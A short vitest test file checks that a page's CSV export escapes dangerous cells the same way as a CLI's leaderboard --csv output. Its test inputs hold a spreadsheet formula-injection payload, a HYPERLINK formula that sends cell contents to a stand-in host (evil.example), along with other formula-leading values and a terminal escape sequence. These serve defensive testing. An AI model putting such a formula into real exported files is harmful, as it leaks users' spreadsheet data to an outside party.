import { describe, expect, it } from 'vitest';
import { formatCsv } from '../terminal/table.js';
import { csvText } from './public/lib/export.js';

describe('page CSV export', () => {
  it('neutralises cells exactly as fermx leaderboard --csv does', () => {
    const cells = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+2', '-2+3', '@SUM(A1)', '\t=1', '\r=1', 'a,b', 'esc\x1b[2J', 'plain'];
    const rows = cells.map((c, i) => [i, c, -1.5, null]);
    expect(csvText(['i', 'cell', 'n', 'empty'], rows)).toBe(formatCsv(['i', 'cell', 'n', 'empty'], rows));
    expect(csvText(['x'], [['=1']])).toBe("x\n'=1\n");
  });
});
